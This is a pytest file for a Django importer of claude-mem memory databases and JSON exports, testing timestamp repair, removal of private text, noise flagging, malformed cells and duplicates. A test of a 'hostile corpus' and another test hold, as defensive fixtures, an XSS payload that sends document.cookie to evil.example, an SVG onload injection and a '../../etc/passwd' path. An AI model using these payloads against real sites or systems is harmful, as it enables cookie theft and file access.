"""The collected cases of other people's trouble, through the command as people run it."""

import json
import runpy
import sys
from collections import Counter
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from memweb.memories.models import (
    Concept,
    FilePath,
    Observation,
    Project,
    Session,
    SessionSummary,
    TimeQuality,
    UserPrompt,
)
from tests.sources.claude_mem import ClaudeMem
from tests.sources.conftest import Import

pytestmark = pytest.mark.django_db

NOVEMBER = datetime(2025, 11, 24, 16, tzinfo=UTC)


@pytest.fixture
def cases(shared: Path) -> Path:
    return shared / "cases" / "files"


def findings(report: dict, section: str) -> dict[str, int]:
    """Return how often each reason was found, over all kinds."""
    counts: Counter[str] = Counter()
    for found in report["findings"].get(section, []):
        counts[found["reason"]] += found["count"]
    return dict(counts)


def test_b02_seconds_are_corrected_and_counted(cases: Path, run_import: Import) -> None:
    report = run_import(cases / "B02_epoch_in_seconds.db")
    assert list(Observation.objects.order_by("pk").values_list("created_at", "time_quality")) == [
        (NOVEMBER, TimeQuality.CORRECTED),
        (NOVEMBER, TimeQuality.EXACT),
    ]
    assert findings(report, "time") == {"epoch was in seconds": 1}


def test_b03_micro_and_nanoseconds_are_corrected_and_absurd_ones_unknown(cases: Path, run_import: Import) -> None:
    run_import(cases / "B03_epoch_in_microseconds.db")
    assert dict(Observation.objects.values_list("title", "time_quality")) == {
        "epoch in us": TimeQuality.CORRECTED,
        "epoch in ns": TimeQuality.CORRECTED,
        "negative epoch": TimeQuality.UNKNOWN,
        "zero epoch": TimeQuality.UNKNOWN,
    }
    assert set(Observation.objects.values_list("created_at", flat=True)) == {NOVEMBER, None}
    assert Observation.objects.get(title="negative epoch").source_data == {
        "created_at": "1969-12-31T23:59:59.999Z",
        "created_at_epoch": -1,
    }


def test_b04_epoch_decides_and_the_conflict_is_reported(cases: Path, run_import: Import) -> None:
    report = run_import(cases / "B04_epoch_and_iso_disagree.db")
    row = Observation.objects.get()
    assert (row.created_at, row.time_quality) == (datetime(2025, 2, 8, 22, tzinfo=UTC), TimeQuality.DOUBTFUL)
    assert row.source_data == {"created_at": "2026-02-09 10:00:00"}
    assert findings(report, "time") == {"epoch and text are more than a day apart; the epoch decides": 1}


def test_b13_project_names_are_exact(cases: Path, run_import: Import) -> None:
    run_import(cases / "B13_project_case_and_basename.db")
    assert sorted(Observation.objects.values_list("project__name", "title")) == [
        (name, f"row of project {name!r}")
        for name in sorted(["api", "API", "api ", "/srv/client-a/api", "client-b/api", "zurich-v1", ""])
    ]


def test_b14_rows_without_usable_time_are_kept_and_flagged(claude_mem: ClaudeMem, run_import: Import) -> None:
    for number, (epoch, text) in enumerate([(0, ""), (-5, "yesterday"), ("", ""), ("soon", "soon")]):
        claude_mem.observation(f"row {number}", created_at_epoch=epoch, created_at=text)
        claude_mem.prompt(f"prompt {number}", created_at_epoch=epoch, created_at=text)
        claude_mem.summary(f"summary {number}", created_at_epoch=epoch, created_at=text)
    report = run_import(claude_mem.path)
    for model in (Observation, UserPrompt, SessionSummary):
        assert set(model.objects.values_list("created_at", "time_quality")) == {(None, TimeQuality.UNKNOWN)}
        assert model.objects.count() == 4
        assert "=xdoubtful" in model.objects.first().scope_terms.split()
    assert sum(findings(report, "time").values()) == 12


def test_c18_private_texts_reach_no_column(claude_mem: ClaudeMem, run_import: Import) -> None:
    marked = "visible <private>secret-1</private> <PRIVATE x='y'>secret-2 <private>secret-3</private></private>"
    unclosed = "visible <private>secret-4"
    escaped = json.dumps({"note": "visible <private>secret-5</private>"}).replace("<", "\\u003c")
    double = json.dumps(json.dumps([marked]).replace("<", "\\u003c"))
    claude_mem.session(
        content_session_id="c2", memory_session_id="m2", project=marked, user_prompt=unclosed, custom_title=marked
    )
    claude_mem.observation(
        marked,
        subtitle=unclosed,
        narrative=marked,
        text=unclosed,
        type=marked,
        project=marked,
        facts=["visible", "<private>secret-6", "secret-7</private> visible", "<private>secret-8"],
        concepts=f"visible,{unclosed}",
        files_read=double,
        files_modified="['<private>secret-9', 'b.ts']",
        metadata=escaped,
        agent_type=marked,
        generated_by_model=unclosed,
        merged_into_project=unclosed,
    )
    claude_mem.observation("broken", facts='["visible <private>secret-10", "cut', metadata='{"a": "<private>secret-11')
    claude_mem.summary(marked, learned=unclosed, notes=marked, files_edited=double)
    claude_mem.prompt(unclosed)
    claude_mem.prompt("<private>secret-12</private>", prompt_number=2)
    report = run_import(claude_mem.path)
    assert "secret" not in json.dumps(report)
    everything = StringIO()
    call_command("dumpdata", "memories", stdout=everything)
    assert "secret" not in everything.getvalue()
    row = Observation.objects.get(subtitle="visible ")
    assert row.facts == ["visible", "visible"]
    assert sorted(row.files.values_list("path", flat=True)) == ["b.ts", "visible"]
    assert findings(report, "skipped") == {"is private from beginning to end": 1}


def test_c20_machine_texts_are_flagged_and_grouped(cases: Path, run_import: Import) -> None:
    report = run_import(cases / "C20_observer_noise.db")
    assert list(Observation.objects.filter(is_noise=False).values_list("title", flat=True)) == ["Real finding"]
    assert list(UserPrompt.objects.filter(is_noise=False).values_list("text", flat=True)) == [
        "real user prompt: why is CI red?"
    ]
    assert (Observation.objects.filter(is_noise=True).count(), UserPrompt.objects.filter(is_noise=True).count()) == (
        12,
        4,
    )
    assert findings(report, "noise")["says nothing but an error object"] == 12
    assert "=xnoise" in Observation.objects.filter(is_noise=True)[0].scope_terms.split()


def test_c20_observer_rows_are_skipped_unless_asked_for(claude_mem: ClaudeMem, run_import: Import) -> None:
    id = claude_mem.session(content_session_id="c2", memory_session_id="m2", project="observer-sessions")
    claude_mem.observation("of the observer", memory_session_id="m2", project="observer-sessions")
    claude_mem.summary("of the observer", memory_session_id="m2", project="observer-sessions")
    claude_mem.prompt("to the observer", session_db_id=id, content_session_id="c2")
    notification = "<task-notification><task-id>1</task-id>done</task-notification>"
    claude_mem.prompt(f" {notification}\n{notification} ", prompt_number=2)
    claude_mem.prompt(f"why did I get {notification}?", prompt_number=3)
    report = run_import(claude_mem.path)
    assert list(UserPrompt.objects.values_list("prompt_number", flat=True)) == [3]
    assert (report["totals"]["skipped"], report["totals"]["imported"]) == (5, 2)
    assert findings(report, "skipped") == {"claude-mem's own observer": 4, "is a task notification": 1}
    report = run_import(claude_mem.path, "--include-noise")
    assert report["totals"]["imported"] == 5
    assert sorted(UserPrompt.objects.values_list("prompt_number", "is_noise")) == [(1, True), (2, True), (3, False)]
    assert Observation.objects.get().is_noise is True


def test_c24_cells_of_any_shape_become_lists(cases: Path, run_import: Import) -> None:
    run_import(cases / "C24_invalid_json_columns.db")
    assert Observation.objects.count() == 7
    assert list(Observation.objects.filter(concepts__name="problem-solution").values_list("title", flat=True)) == [
        "pipe facts + comma concepts"
    ]
    assert sorted(Observation.objects.filter(files__path="src/a.ts").values_list("title", flat=True)) == [
        "json object not list",
        "single-quoted list",
    ]
    assert dict(Observation.objects.values_list("title", "facts")) == {
        "pipe facts + comma concepts": ["needs --client-type", "Python 3.13 limit", "persistent mode"],
        "single-quoted list": ["a", "b"],
        "truncated json": ['["a","b'],
        "json object not list": ['{"a": 1}'],
        "numbers and nested": ["1", "x", '{"k": "v"}', "true"],
        "empty strings": [],
        "double encoded": ["a", "b"],
    }
    assert Observation.objects.get(title="truncated json").source_data == {
        "facts": '["a","b',
        "concepts": '["how-it-works"',
        "files_read": '["src/a.ts"',
        "files_modified": "{",
    }
    assert sorted(Concept.objects.values_list("name", flat=True)) == sorted(
        ["how-it-works", "problem-solution", "gotcha", '["how-it-works"', "7", "pattern"]
    )
    assert FilePath.objects.get(path="../../etc/passwd").name == "passwd"


def test_c26_exports_of_all_shapes(cases: Path, run_import: Import) -> None:
    assert run_import(cases / "C26_export_good.json")["totals"]["imported"] == 2
    again = run_import(cases / "C26_export_good.json")
    assert (again["totals"]["imported"], again["totals"]["unchanged"]) == (0, 2)
    nothing = run_import(cases / "C26_export_no_results_mcp_shape.json")
    assert (nothing["totals"]["imported"], nothing["counts"]) == (0, {})
    assert "nothing to import" in nothing["warnings"][0]


def test_c26_old_keys_find_their_session(cases: Path, run_import: Import) -> None:
    report = run_import(cases / "C26_export_direct_old_keys.json")
    assert report["counts"]["observation"]["imported"] == 1
    session = Observation.objects.get().session
    assert (session.content_session_id, session.memory_session_id, session.is_placeholder) == (
        "content-1",
        "mem-1",
        False,
    )


def test_c26_lists_and_text_epochs_are_read(cases: Path, run_import: Import) -> None:
    run_import(cases / "C26_export_facts_as_lists.json")
    row = Observation.objects.get()
    assert (row.facts, row.created_at, row.time_quality) == (
        ["already", "a list"],
        datetime(2026, 1, 20, 9, 1, tzinfo=UTC),
        TimeQuality.EXACT,
    )
    assert row.source_data == {}


def test_c26_truncated_export_is_refused_as_a_whole(cases: Path) -> None:
    with pytest.raises(CommandError, match=r"line 40, column 4\. Nothing was imported"):
        call_command("import", str(cases / "C26_export_count_mismatch_truncated.json"))
    assert (Observation.objects.count(), Session.objects.count()) == (0, 0)


def test_c27_equal_rows_are_one_and_different_ones_are_not(cases: Path, run_import: Import) -> None:
    report = run_import(cases / "C27_duplicates.db")
    wanted = [
        ("", "null title variant 0"),
        ("", "null title variant 1"),
        ("", "null title variant 2"),
        ("same observation", "DIFFERENT narrative, same title and second"),
        ("same observation", "same narrative"),
    ]
    assert sorted(Observation.objects.values_list("title", "narrative")) == wanted
    assert report["counts"]["observation"]["duplicate"] == 7
    again = run_import(cases / "C27_duplicates.db")
    assert again["counts"]["observation"] == {
        "imported": 0,
        "unchanged": 5,
        "updated": 0,
        "duplicate": 7,
        "skipped": 0,
    }
    assert sorted(Observation.objects.values_list("title", "narrative")) == wanted


def test_c31_orphans_get_a_placeholder_and_keep_their_own_project(cases: Path, run_import: Import) -> None:
    run_import(cases / "C31_orphan_observations.db")
    assert sorted(
        Observation.objects.values_list(
            "title", "project__name", "session__memory_session_id", "session__is_placeholder"
        )
    ) == [
        ("belongs to session 1", "demo-app", "mem-1", False),
        ("orphan: session row missing", "demo-app", "mem-gone", True),
        ("project differs from its session", "Other-App", "mem-1", False),
    ]
    summary = SessionSummary.objects.select_related("session").get()
    assert (summary.session.memory_session_id, summary.session.label) == ("mem-gone", "unknown session")
    assert Session.objects.get(content_session_id="content-3").memory_session_id == ""


def test_d13_title_only_and_empty_rows_are_imported(cases: Path, run_import: Import) -> None:
    run_import(cases / "D13_title_only.db")
    assert [row.heading for row in Observation.objects.order_by("pk")] == [
        "title only needle-title-d13",
        "(empty observation)",
    ]


def test_hostile_corpus_imports_unharmed(shared: Path, tmp_path: Path, run_import: Import, monkeypatch) -> None:
    script = shared / "cases" / "make_security_corpus.py"
    monkeypatch.setattr(sys, "argv", [str(script), str(tmp_path)])
    runpy.run_path(str(script), run_name="__main__")
    report = run_import(tmp_path / "E_security_corpus.db")
    assert report["counts"]["observation"]["imported"] == Observation.objects.count() == 37
    row = Observation.objects.get(title="xss 0 <script>location='http://evil.example/'+document.cookie</script>")
    assert row.facts == ["<script>location='http://evil.example/'+document.cookie</script>"]
    assert [concept.name for concept in row.concepts.all()] == row.facts == [file.path for file in row.files.all()]
    assert Project.objects.filter(name='"><svg onload=alert(1)>').count() == 1
    ansi = Observation.objects.get(title="ansi and bidi")
    assert "\x1b[31mred" in ansi.narrative
    assert "\x1b" not in json.dumps(report, ensure_ascii=False)


@pytest.mark.parametrize("text", ["a\0b", "a\ud800b", b"a\xffb", b"a\x00b"])
def test_characters_that_no_database_stores_are_replaced(
    claude_mem: ClaudeMem, run_import: Import, text: str | bytes, tmp_path: Path
) -> None:
    if isinstance(text, str) and "\ud800" in text:
        path = tmp_path / "export.json"
        row = {"title": text, "facts": [text], "memory_session_id": text, "project": text, "metadata": {text: text}}
        path.write_text(json.dumps({"observations": [row]}))
    else:
        path = claude_mem.path
        claude_mem.observation(text, narrative=text, project=text, memory_session_id=text)
        if isinstance(text, bytes):
            # Bytes that are no UTF-8, in a cell that says it is text.
            claude_mem.connection.execute("UPDATE observations SET title = CAST(title AS TEXT)")
    run_import(path)
    row = Observation.objects.get()
    wanted = "ab" if "\0" in str(text) or b"\0" in (text if isinstance(text, bytes) else b"") else "a\ufffdb"
    assert (row.title, row.project.name, row.session.memory_session_id) == (wanted, wanted, wanted)


def test_cells_of_the_wrong_type_do_no_harm(claude_mem: ClaudeMem, run_import: Import) -> None:
    claude_mem.observation("numbers", prompt_number="many", discovery_tokens="12", narrative=3.5, facts=7, project=5)
    claude_mem.observation("huge", prompt_number=2**62, discovery_tokens=-1, created_at_epoch=2**63 - 1, created_at=1)
    claude_mem.observation("blob", facts=b'["a"]', metadata=b"\x00\xff", type=b"x")
    report = run_import(claude_mem.path)
    assert report["counts"]["observation"]["imported"] == 3
    assert Observation.objects.get(title="numbers").prompt_number is None
    assert Observation.objects.get(title="numbers").discovery_tokens == 12
    assert Observation.objects.get(title="blob").facts == ["a"]
